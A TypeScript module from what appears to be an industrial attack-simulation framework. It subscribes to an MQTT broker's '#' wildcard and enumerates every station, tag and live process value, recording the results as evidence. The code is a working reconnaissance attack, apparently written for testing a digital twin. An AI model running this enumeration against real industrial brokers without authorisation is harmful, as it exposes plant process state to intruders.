/**
 * Point and tag identification over MQTT: subscribe to `#` and let the broker hand over every
 * retained value of the unified namespace — every station, tag, unit and live value, in clear
 * text on a plain `mqtt://` connection.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { trail } from './common.ts';

/** how long to listen [ms] */
const LISTEN_MS = 3000;

export const mqttWildcard: Attack = {
  id: 'mqtt-wildcard',
  title: 'MQTT wildcard subscription: every topic, tag and live value of the line',
  techniques: [T.pointAndTagIdentification, T.monitorProcessState],
  face: 'mqtt',
  preconditions: ['network reach to the broker', 'a connection: anonymous, or an account the attacker holds'],
  steps: ['CONNECT', 'SUBSCRIBE #', `collect the retained and live messages for ${LISTEN_MS / 1000} s`],
  expectedImpact: 'none on the process; the attacker reads the whole unified namespace and the process state',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { listen, mqttClose, mqttConnect } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const client = await mqttConnect(ctx, evidence);
    let topics = new Map<string, string>();
    let prefix: string | null = null;
    if (client !== null) {
      const got = await listen(client, ctx.station.toLowerCase(), LISTEN_MS, false);
      topics = got.topics;
      prefix = got.prefix;
      await mqttClose(client);
    }
    // the twin's tag topics: <prefix>/<station>/<tag>, without its `$status`, `$meta` and command replies
    const twin = prefix === null ? [] : [...topics.keys()].filter((t) => t.startsWith(`${prefix}/`) && !t.slice(prefix!.length + 1).split('/').some((p) => p.startsWith('$') || p === 'cmd'));
    const stations = new Set(twin.map((t) => t.slice(prefix!.length + 1).split('/')[0]));
    evidence.push(`MQTT: ${topics.size} topics received${prefix === null ? '' : `; UNS prefix ${prefix}: ${stations.size} stations, ${twin.length} tags`}`);
    const sample = twin.filter((t) => t.startsWith(`${prefix}/${ctx.station.toLowerCase()}/`)).slice(0, 5);
    for (const t of sample) evidence.push(`MQTT: ${t} = ${topics.get(t) ?? ''}`);
    await trail(ctx, evidence, client === null);
    return { outcome: twin.length > 0 ? 'succeeded' : 'blocked', evidence, impact: { topics: topics.size, stations: stations.size, tags: twin.length, prefix } };
  },
  async cleanup() {
    // nothing on the line changed
  },
};
